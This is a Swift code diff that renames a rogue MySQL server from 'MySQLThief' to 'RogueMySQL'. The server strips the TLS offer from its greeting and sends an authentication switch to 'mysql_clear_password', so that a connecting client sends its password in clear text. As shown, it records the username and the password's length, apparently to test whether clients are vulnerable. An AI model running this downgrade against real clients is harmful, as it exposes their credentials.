@@ -1,21 +1,21 @@
 /// Speaks MySQL's protocol without TLS, as far as a client's clear-text password.
 ///
 /// Source: MySQL internals, "Connection Phase": HandshakeV10, HandshakeResponse41, AuthSwitchRequest.
-enum MySQLThief {
+enum RogueMySQL {
     /// - Parameter greetingOf: A server whose greeting is passed on without its offer of TLS; nil for an own greeting.
-    static func talk(_ client: Socket, greetingOf server: Int?) -> Loot {
-        var loot = Loot()
+    static func talk(_ client: Socket, greetingOf server: Int?) -> CapturedBytes {
+        var captured = CapturedBytes()
         let greeting = server.flatMap(strippedGreeting) ?? ownGreeting
         client.write(packet(greeting, sequence: 0))
-        guard let response = packet(client), response.payload.count > 32 else { return loot }
+        guard let response = packet(client), response.payload.count > 32 else { return captured }
         let user = response.payload[32...].prefix { $0 != 0 }
-        loot.user = String(decoding: user, as: UTF8.self)
+        captured.user = String(decoding: user, as: UTF8.self)
         client.write(packet([0xFE] + Array("mysql_clear_password\0".utf8), sequence: response.sequence &+ 1))
-        guard let password = packet(client) else { return loot }
-        loot.passwordByteCount = password.payload.count - (password.payload.last == 0 ? 1 : 0)
+        guard let password = packet(client) else { return captured }
+        captured.passwordByteCount = password.payload.count - (password.payload.last == 0 ? 1 : 0)
         client.write(
             packet([0xFF, 0x15, 0x04] + Array("#28000Access denied".utf8), sequence: password.sequence &+ 1))
-        return loot
+        return captured
     }
 
     private static let ownGreeting: [UInt8] =
